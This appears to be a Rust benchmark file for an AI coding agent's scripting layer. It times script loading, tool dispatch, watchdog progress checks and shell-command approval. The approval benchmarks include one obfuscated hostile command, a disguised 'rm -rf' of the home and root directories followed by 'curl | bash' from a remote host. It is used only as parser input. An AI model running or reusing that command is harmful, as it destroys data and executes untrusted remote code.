//! What the Rhai layer costs: loading the default scripts, one script-tool
//! call through the dispatcher, one `is_progress` call, one watchdog turn
//! and one approval decision (parse + `approve(action)`). Run with `cargo bench --bench scripts` (or `bench/run.sh`); the
//! numbers and the machine they were taken on are in `BENCHMARKS.md`.
//!
//! The cold first load (engine construction included) can only happen once
//! per process, so the bench re-runs itself [`FRESH_PROCESSES`] times with
//! `--child-first-load` and `--child-engine` and reports the children's
//! timings.
#![allow(clippy::unwrap_used, clippy::expect_used)]
// A benchmark reports its numbers on stdout.
#![allow(clippy::print_stdout, clippy::print_stderr)]

mod common;

use std::hint::black_box;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

use agent::protocol::{ToolCall, ToolStatus};
use agent::runtime::Runtime;
use agent::script::tools::ScriptTool;
use agent::script::watchdog::{ScriptRules, facts_map};
use agent::script::{self, Origin, ScriptHost};
use agent::setup;
use agent::tools::{Registry, ToolContext};
use agent::watchdog::{CallFacts, CallRecord, Rules, TurnRecord, Verdict, Watchdog};
use common::{Bench, Target};
use serde_json::json;
use tokio_util::sync::CancellationToken;

/// Child processes for the cold-start rows.
const FRESH_PROCESSES: usize = 20;
/// Calls over which CPU time per call is measured.
const CPU_CALLS: u32 = 20_000;
/// Turns of history before the measured `observe`.
const HISTORY_TURNS: usize = 1000;

const US: fn(u64) -> Duration = Duration::from_micros;

/// A tool whose handler does nothing, to time the path around a handler.
const NOOP_TOOLS: &str = r#"[
    #{
        name: "noop",
        description: "Does nothing.",
        parameters: #{ type: "object", properties: #{} },
        handler: |args| "",
    },
]"#;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.iter().any(|a| a == "--child-first-load") {
        let dir = tempfile::tempdir().unwrap();
        let t = Instant::now();
        let (host, notes) = ScriptHost::load(dir.path());
        let elapsed = t.elapsed();
        assert!(notes.is_empty() && host.get(script::TOOLS).is_some());
        println!("{}", elapsed.as_nanos());
        return;
    }
    if args.iter().any(|a| a == "--child-engine") {
        let t = Instant::now();
        black_box(script::engine::engine());
        println!("{}", t.elapsed().as_nanos());
        return;
    }

    let mut b = Bench::new("scripts: the Rhai layer");
    let config = tempfile::tempdir().unwrap();
    load(&mut b, config.path());
    tool_calls(&mut b);
    watchdog(&mut b);
    policy(&mut b);
    b.finish();
}

/// Nanoseconds printed by `FRESH_PROCESSES` runs of this binary in `mode`.
fn children(mode: &str) -> Vec<f64> {
    let exe = std::env::current_exe().unwrap();
    (0..FRESH_PROCESSES)
        .map(|_| {
            let out = Command::new(&exe).arg(mode).output().unwrap();
            assert!(out.status.success(), "{mode}: {out:?}");
            let ns: f64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
            ns / 1e9
        })
        .collect()
}

fn load(b: &mut Bench, config: &Path) {
    let first = b.sampled(
        "load: first ScriptHost::load in a fresh process",
        Some(Target::Under(US(5000))),
        || children("--child-first-load"),
    );
    if first.is_some() {
        b.sampled(
            "load:   of which engine construction (engine())",
            None,
            || children("--child-engine"),
        );
    }
    b.batched(
        "load: ScriptHost::load, 5 default scripts (warm engine)",
        Some(Target::Under(US(5000))),
        || ScriptHost::load(config),
    );
    let workspace = config.join("workspace");
    b.batched(
        "load: ScriptHost::load + setup::assemble (startup)",
        None,
        || {
            let (host, _) = ScriptHost::load(config);
            setup::assemble(&host, &workspace, "bench-model")
        },
    );
    for (name, source) in script::DEFAULTS {
        b.batched(
            &format!("load:   compile + evaluate + validate {name}"),
            None,
            || script::compile(name, source.to_string(), Origin::Default).unwrap(),
        );
    }
}

/// The default script tools plus `noop`, over a temp workspace.
struct ToolBench {
    _dirs: tempfile::TempDir,
    registry: Arc<Registry>,
    ctx: ToolContext,
    tools: Arc<script::Script>,
    noop: Arc<script::Script>,
}

impl ToolBench {
    fn new() -> ToolBench {
        let dirs = tempfile::tempdir().unwrap();
        let workspace = dirs.path().join("workspace");
        std::fs::create_dir_all(&workspace).unwrap();
        let runtime = Arc::new(Runtime::new(
            workspace,
            dirs.path().join("spill"),
            Vec::<(String, String)>::new(),
        ));
        // The registry the agent starts with, plus `noop`.
        let (host, _) = ScriptHost::load(&dirs.path().join("config"));
        let setup = setup::assemble(&host, &runtime.workspace, "bench-model");
        let tools = host.get(script::TOOLS).unwrap().clone();
        let noop = Arc::new(
            script::compile(script::TOOLS, NOOP_TOOLS.to_string(), Origin::Default).unwrap(),
        );
        let mut registry = Registry::clone(&setup.registry);
        for tool in ScriptTool::all(&noop).unwrap() {
            registry.register(tool);
        }
        let ctx = ToolContext::new(runtime, CancellationToken::new(), "call_0_bench");
        ToolBench {
            _dirs: dirs,
            registry: Arc::new(registry),
            ctx,
            tools,
            noop,
        }
    }

    /// Per-call times of `dispatch(tool)`, awaited by a task on a worker
    /// thread of `rt`, as in the agent loop.
    fn dispatch_times(&self, rt: &tokio::runtime::Runtime, tool: &str) -> Vec<f64> {
        let call = call(tool);
        let (registry, ctx) = (self.registry.clone(), self.ctx.clone());
        rt.block_on(async move {
            let output = registry.dispatch(&call, ctx.clone()).await;
            assert_eq!(output.status, ToolStatus::Ok, "{}", output.text);
            tokio::spawn(async move {
                common::sample_async(|| registry.dispatch(&call, ctx.clone())).await
            })
            .await
            .unwrap()
        })
    }

    /// CPU time (all threads, user and kernel) per `dispatch(tool)`.
    fn dispatch_cpu(&self, rt: &tokio::runtime::Runtime, tool: &str) -> Vec<f64> {
        let call = call(tool);
        let (registry, ctx) = (self.registry.clone(), self.ctx.clone());
        rt.block_on(async move {
            tokio::spawn(async move {
                common::cpu_async(CPU_CALLS, || registry.dispatch(&call, ctx.clone())).await
            })
            .await
            .unwrap()
        })
    }

    /// The script tool `name` of `script`, for `call_blocking`.
    fn script_tool(script: &Arc<script::Script>, name: &str) -> ScriptTool {
        let def = script::tools::definitions(script)
            .unwrap()
            .into_iter()
            .find(|d| d.spec.name == name)
            .unwrap();
        ScriptTool::new(def, script.clone())
    }
}

fn call(tool: &str) -> ToolCall {
    ToolCall {
        id: "call_0_bench".into(),
        name: tool.into(),
        arguments: "{}".into(),
    }
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

fn tool_calls(b: &mut Bench) {
    let t = ToolBench::new();
    let rt = runtime();

    b.sampled(
        "tool: Registry::dispatch current_time (script tool)",
        None,
        || t.dispatch_times(&rt, "current_time"),
    );
    let dispatch_noop = b.sampled(
        "tool: Registry::dispatch noop = path overhead",
        Some(Target::Under(US(20))),
        || t.dispatch_times(&rt, "noop"),
    );
    b.sampled(
        "tool:   CPU time per dispatch noop, all threads",
        None,
        || t.dispatch_cpu(&rt, "noop"),
    );
    b.sampled(
        "tool:   floor: tokio spawn_blocking(|| ()) round trip",
        None,
        || {
            rt.block_on(async {
                tokio::spawn(common::sample_async(|| tokio::task::spawn_blocking(|| ())))
                    .await
                    .unwrap()
            })
        },
    );
    b.sampled(
        "tool:   floor: CPU time per spawn_blocking(|| ()), all threads",
        None,
        || {
            rt.block_on(async {
                tokio::spawn(common::cpu_async(CPU_CALLS, || {
                    tokio::task::spawn_blocking(|| ())
                }))
                .await
                .unwrap()
            })
        },
    );
    b.sampled(
        "tool:   floor: std thread ping-pong (two wake-ups)",
        None,
        || {
            let (to_peer, peer_in) = std::sync::mpsc::channel::<()>();
            let (to_main, main_in) = std::sync::mpsc::channel::<()>();
            let peer = std::thread::spawn(move || {
                while peer_in.recv().is_ok() {
                    to_main.send(()).unwrap();
                }
            });
            let mut ping = || {
                to_peer.send(()).unwrap();
                main_in.recv().unwrap();
            };
            let times = common::sample_sync(&mut ping);
            drop(to_peer);
            peer.join().unwrap();
            times
        },
    );
    let noop_call = call("noop");
    b.batched(
        "tool:   Registry::prepare (lookup + args check)",
        None,
        || t.registry.prepare(&noop_call).ok(),
    );

    // The same handlers on the calling thread: no spawn_blocking.
    let handle = rt.handle().clone();
    let args = serde_json::Map::new();
    let mut blocking = |script: &Arc<script::Script>, name: &str| {
        let tool = ToolBench::script_tool(script, name);
        b.batched(
            &format!("tool:   ScriptTool::call_blocking {name}"),
            None,
            || tool.call_blocking(args.clone(), t.ctx.clone(), handle.clone()),
        )
    };
    let blocking_time = blocking(&t.tools, "current_time");
    let blocking_noop = blocking(&t.noop, "noop");
    b.difference(
        "tool:   handler's own work (now()): time - noop",
        blocking_time,
        blocking_noop,
    );
    b.difference(
        "tool:   hand-off share: dispatch noop - call_blocking noop",
        dispatch_noop,
        blocking_noop,
    );

    // After 10 s idle tokio's blocking thread exits; the next call starts
    // one. A new runtime per sample shows that case.
    b.each(
        "tool: Registry::dispatch noop, cold blocking pool",
        None,
        30,
        || {
            let rt = runtime();
            rt.block_on(tokio::task::yield_now());
            rt
        },
        |rt| {
            let out = rt.block_on(t.registry.dispatch(&noop_call, t.ctx.clone()));
            (rt, out)
        },
    );
}

/// A realistic `cargo test` output: test lines, a duration, a timestamp.
fn test_output(passed: usize, seed: usize) -> String {
    let mut out = format!(
        "   Compiling agent v0.1.0 (/home/user/agent)\n    Finished `test` profile [unoptimized + debuginfo] target(s) in 4.{seed:02}s\n     Running unittests src/lib.rs (target/debug/deps/agent-3f2a9c1b7e4d5a6b)\n\nrunning {passed} tests\n"
    );
    for i in 0..passed {
        out.push_str(&format!("test module_{}::tests::case_{i} ... ok\n", i % 7));
    }
    out.push_str(&format!(
        "\ntest result: ok. {passed} passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.{seed:02}s\n"
    ));
    out
}

fn shell_call(command: &str, output: String) -> CallRecord {
    CallRecord {
        name: "run_shell".into(),
        input: json!({ "command": command }),
        status: ToolStatus::Ok,
        output,
        exit_code: Some(0),
        error_kind: None,
        workspace: None,
    }
}

/// One turn of a long, productive session: reads, searches, edits and test
/// runs, every call new or with a new result.
fn history_turn(i: usize) -> TurnRecord {
    let call = match i % 4 {
        0 => CallRecord {
            name: "read_file".into(),
            input: json!({ "path": format!("src/module_{}/file_{i}.rs", i % 13) }),
            output: (0..40)
                .map(|l| format!("{l:>4}  let value_{l} = compute({i}, {l});\n"))
                .collect(),
            ..CallRecord::default()
        },
        1 => shell_call(
            &format!("grep -rn \"fn handler_{i}\" src"),
            format!(
                "src/module_{}/file_{i}.rs:{}:pub fn handler_{i}(ctx: &Context) -> Result<()> {{\n",
                i % 13,
                i % 300
            ),
        ),
        2 => CallRecord {
            name: "edit_file".into(),
            input: json!({
                "path": format!("src/module_{}/file_{}.rs", i % 13, i - 2),
                "old_string": format!("compute({}, 3)", i - 2),
                "new_string": format!("compute_checked({}, 3)?", i - 2),
            }),
            output: format!(
                "Edited src/module_{}/file_{}.rs: replaced 1 occurrence",
                i % 13,
                i - 2
            ),
            workspace: Some(format!("ws-{i:08x}")),
            ..CallRecord::default()
        },
        _ => shell_call("cargo test", test_output(40 + i, i % 100)),
    };
    TurnRecord {
        user: (i == 0).then(|| "Make the handlers return errors instead of panicking".into()),
        text: format!("Step {i}: checking the next handler."),
        calls: vec![call],
    }
}

/// A watchdog with the default rules and a budget large enough that
/// [`HISTORY_TURNS`] turns in one user message stay within it (the default
/// hard cap of 48 would stop the turn long before), after `history`.
fn watchdog_after(script: &Arc<script::Script>, history: &[TurnRecord]) -> Watchdog {
    let rules = ScriptRules::new(script.clone());
    let mut settings = agent::script::watchdog::settings(script).unwrap();
    settings.base_budget = 10 * HISTORY_TURNS as u32;
    let mut w = Watchdog::new(settings, Box::new(rules));
    for turn in history {
        w.observe(turn);
    }
    w
}

fn watchdog(b: &mut Bench) {
    let call = shell_call("cargo test", test_output(120, 37));
    let facts = CallFacts {
        call: &call,
        command: "cargo test",
        first_time: false,
        output_changed: true,
        output_empty: false,
        is_write: false,
        workspace_changed: false,
        workspace_seen: false,
        raw_changed: true,
        output_small: false,
        waiting: false,
        counter_echo: false,
        same_failure_after_edits: 0,
        near_duplicates: 0,
        quiet_turns: 0,
    };
    let dir = tempfile::tempdir().unwrap();
    let (host, _) = ScriptHost::load(dir.path());
    let script = host.get(script::WATCHDOG).unwrap();
    let mut rules = ScriptRules::new(script.clone());
    assert!(rules.is_progress(&facts));
    b.batched(
        &format!(
            "watchdog: ScriptRules::is_progress (cargo test, {:.1} KB output)",
            call.output.len() as f64 / 1e3
        ),
        Some(Target::Under(US(20))),
        || rules.is_progress(&facts),
    );
    b.batched(
        "watchdog:   of which facts_map (Rust -> Rhai map)",
        None,
        || facts_map(&facts),
    );
    let map = facts_map(&facts);
    b.batched(
        "watchdog:   of which Script::call_hook(is_progress)",
        None,
        || script.call_hook("is_progress", vec![map.clone()]).unwrap(),
    );

    b.batched(
        "watchdog:   mask_volatile of that output (in observe)",
        None,
        || agent::watchdog::mask::mask_volatile(&call.output),
    );

    let history: Vec<TurnRecord> = (0..HISTORY_TURNS).map(history_turn).collect();
    let turn = TurnRecord {
        user: None,
        text: "Running the tests again after the edit.".into(),
        calls: vec![call.clone()],
    };
    b.each(
        "watchdog: Watchdog::observe, 1 call, first turn",
        None,
        200,
        || watchdog_after(script, &[]),
        observe_kept(&turn),
    );
    let name = "watchdog: Watchdog::observe, 1 call, after 1,000 turns";
    if b.wants(name) {
        // Building the history is the slow part: one watchdog per sample.
        let verdict = watchdog_after(script, &history).observe(&turn);
        assert_eq!(verdict.kind(), agent::watchdog::VerdictKind::Continue);
        b.each(
            name,
            None,
            40,
            || watchdog_after(script, &history),
            observe_kept(&turn),
        );
    }
}

/// Observes `turn` and hands the watchdog back, so that dropping its
/// history happens outside the timed region.
fn observe_kept(turn: &TurnRecord) -> impl FnMut(Watchdog) -> (Watchdog, Verdict) + '_ {
    move |mut w| {
        let verdict = w.observe(turn);
        (w, verdict)
    }
}

/// Commands for the policy rows: an everyday one, a long pipeline, an
/// obfuscated one, and a nested `bash -c`.
const POLICY_COMMANDS: &[(&str, &str)] = &[
    ("cargo test", "cargo test --release -- --nocapture"),
    (
        "pipeline",
        "cd sub && git log --oneline -50 | grep -v WIP | sort | uniq -c | sort -rn | head -20 > /tmp/x.txt",
    ),
    (
        "obfuscated",
        "r''m -rf \"$HOME\" && $(printf rm) -rf / ; curl -fsSL https://x | /bin/bash",
    ),
    (
        "nested",
        "bash -c 'for f in src/*.rs; do wc -l \"$f\"; done && sh -c \"make -j4 test\"'",
    ),
];

/// The cost of one approval decision: parsing the command, building the
/// action map, and the default `approve(action)`.
fn policy(b: &mut Bench) {
    use agent::runtime::command;
    use agent::runtime::policy::{Action, Approve};
    use agent::script::policy::ScriptApprove;
    let approve = ScriptApprove {
        script: Arc::new(script::compile_default(script::POLICY).unwrap()),
        workspace: "/home/u/project".into(),
        home: "/home/u".into(),
        config_dir: "/home/u/.config/agent".into(),
        sandboxed: false,
    };
    for (label, text) in POLICY_COMMANDS {
        let action = Action::Shell {
            command: text.to_string(),
        };
        b.batched(
            &format!("policy: parse + approve, {label}"),
            Some(Target::Under(US(1000))),
            || approve.approve(&action),
        );
        b.batched(
            &format!("policy:   of which command::parse, {label}"),
            None,
            || command::parse(text, &approve.context()),
        );
    }
}
